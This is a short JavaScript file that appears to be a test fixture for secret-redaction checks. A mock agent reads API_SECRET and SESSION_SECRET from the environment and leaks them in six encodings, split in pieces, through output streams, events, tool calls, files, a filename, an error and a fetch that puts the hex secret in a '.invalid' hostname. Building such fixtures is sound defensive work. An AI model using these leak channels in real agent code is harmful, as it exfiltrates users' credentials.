// Leaks its secrets in every way it can, in six encodings, each in two pieces.

import { writeFileSync } from "node:fs";

const formsOf = (secret) => [
  secret,
  Buffer.from(`x${secret}`).toString("base64"),
  Buffer.from(secret).toString("base64url"),
  Buffer.from(secret).toString("hex"),
  encodeURIComponent(secret),
  JSON.stringify(secret),
];
const pause = () => new Promise((resolve) => setTimeout(resolve, 15));

async function* pieces() {
  for (const secret of [process.env.API_SECRET, process.env.SESSION_SECRET]) {
    for (const form of formsOf(secret)) {
      yield form.slice(0, form.length / 2);
      await pause();
      yield `${form.slice(form.length / 2)}\n`;
    }
  }
}

export async function* agent(prompt, context) {
  const secret = process.env.API_SECRET;
  const forms = formsOf(secret);
  if (prompt === "half") {
    const half = `half: ${secret.slice(0, 20)}`;
    process.stdout.write(half);
    yield half;
    await new Promise((resolve) => setTimeout(resolve, 60_000));
  }
  for await (const piece of pieces()) {
    process.stdout.write(piece);
    process.stderr.write(piece);
    yield piece;
  }
  for (const form of forms) context.emit(form, { [form]: ["deep", { form }] });
  for (const form of forms) await context.tool("leak", { [form]: ["deep", { form }] }, () => form);
  // Cut within the secret.
  for (const form of forms) await context.tool("leak", "x".repeat(16_360) + form, (given) => given);
  writeFileSync("secret.txt", forms.join("\n"));
  writeFileSync(`named-${forms[3]}.txt`, "");
  await fetch(`http://${forms[3]}.invalid/`).catch((error) => console.error(error));
  if (prompt === "throw") throw new Error(forms.join(" "), { cause: new Error(secret) });
}
